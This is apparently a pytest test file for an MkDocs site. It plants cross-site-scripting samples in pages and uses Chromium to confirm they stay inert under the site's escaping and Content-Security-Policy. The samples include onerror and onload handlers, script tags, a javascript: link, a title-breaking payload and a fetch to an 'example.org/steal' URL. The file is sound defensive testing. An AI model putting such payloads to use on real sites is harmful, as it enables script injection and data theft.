"""Hostile-looking text that a contributor may legitimately publish (in code, as prose) is
published inert: in Chromium, under the site's Content-Security-Policy, nothing runs and nothing is
requested from another host."""

from __future__ import annotations

import functools
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import ARGS, CHROMIUM, QuietHandler, QuietServer, mkdocs_build
from playwright.sync_api import sync_playwright

INERT = '''

Code that shows an attack, as text: `<img src=x onerror="alert(1)">` and
`<script>alert(2)</script>`, and in a block:

```html
<svg onload="alert(3)"><script>fetch("https://example.org/steal")</script></svg>
<a href="javascript:alert(4)">x</a>
```

Prose that shows markup with entities: &lt;b onmouseover=alert(6)&gt; is text here.

## A heading that shows `<img src=x onerror="alert(7)">`, also in the table of contents

Under it, a line.
'''

#: a page whose title shows markup (with entities: raw markup in a title is refused); the theme
#: wrote it into the head as markup (`striptags` turns `&lt;` back into `<`)
SHOWN = ("# Markup shown &lt;/title&gt;&lt;img src=x onerror=alert(8)&gt; in a title\n\n"
         "It cites [[sample-one]].\n")
#: the title it shows in the browser's tab, in its share card and where it is listed
SHOWN_TITLE = "Markup shown </title><img src=x onerror=alert(8)> in a title"


@pytest.fixture(scope="module")
def inert_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    import shutil

    from conftest import ROOT

    project = tmp_path_factory.mktemp("inert") / "project"
    project.mkdir()
    for name in ("hooks", "overrides"):
        shutil.copytree(ROOT / name, project / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "tests" / "fixtures" / "docs", project / "docs")
    shutil.copy(ROOT / "docs" / "data" / "ui.yml", project / "docs" / "data" / "ui.yml")
    shutil.copy(ROOT / "docs" / "data" / "search-normalise.yml",
                project / "docs" / "data" / "search-normalise.yml")
    (project / "mkdocs.yml").write_text(
        (ROOT / "mkdocs.yml").read_text(encoding="utf-8").split("\nnav:")[0], encoding="utf-8")
    page = project / "docs" / "en" / "index.md"
    page.write_text(page.read_text(encoding="utf-8") + INERT, encoding="utf-8")
    (project / "docs" / "en" / "shown.md").write_text(SHOWN, encoding="utf-8")
    out = project / "site"
    result = mkdocs_build(project, out)
    assert result.returncode == 0, result.stdout + result.stderr
    handler = functools.partial(QuietHandler, directory=str(out))
    httpd = QuietServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    httpd.shutdown()


@pytest.mark.site
def test_hostile_looking_text_is_published_inert(inert_site: str) -> None:
    assert Path(CHROMIUM).exists()
    events: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page()
        page.on("dialog", lambda d: (events.append(f"dialog {d.message}"), d.dismiss()))
        page.on("request", lambda r: events.append(f"request {r.url}")
                if not r.url.startswith(inert_site) and not r.url.startswith("data:") else None)
        page.on("pageerror", lambda e: events.append(f"error {e}"))
        page.goto(inert_site)
        page.wait_for_timeout(500)
        for element in page.locator("article code").all():
            element.hover()
        text = page.locator("article.md-content__inner").inner_text()
        contents = page.locator(".md-sidebar--secondary").text_content() or ""
        browser.close()
    assert not events, events
    assert 'onerror="alert(1)"' in text and "onmouseover=alert(6)" in text
    assert 'onerror="alert(7)"' in contents  # the heading's entry shows its code as text


@pytest.mark.site
def test_a_title_that_shows_markup_is_text_in_the_tab_the_head_and_the_links(
        inert_site: str) -> None:
    """A page's title that shows markup is the tab's text, and nowhere markup: not in the head
    (where the theme's `striptags` had written it as markup, an image in the head), not in its
    share card, not where an excerpt it cites lists it (which showed `&lt;`)."""
    events: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page()
        page.on("dialog", lambda d: (events.append(f"dialog {d.message}"), d.dismiss()))
        page.on("pageerror", lambda e: events.append(f"error {e}"))
        page.goto(inert_site + "shown/")
        tab = page.title()
        images = page.evaluate("document.querySelectorAll('img[src=\"x\"]').length")
        card = page.evaluate("document.querySelector('meta[property=\"og:title\"]').content")
        page.goto(inert_site + "papers/sample/")
        cited = page.locator("#sample-one .excerpt__cited-by").inner_text()
        browser.close()
    assert not events and images == 0, (events, images)
    assert tab.startswith(SHOWN_TITLE + " - "), tab
    assert card == SHOWN_TITLE, card
    assert SHOWN_TITLE in cited and "&lt;" not in cited, cited
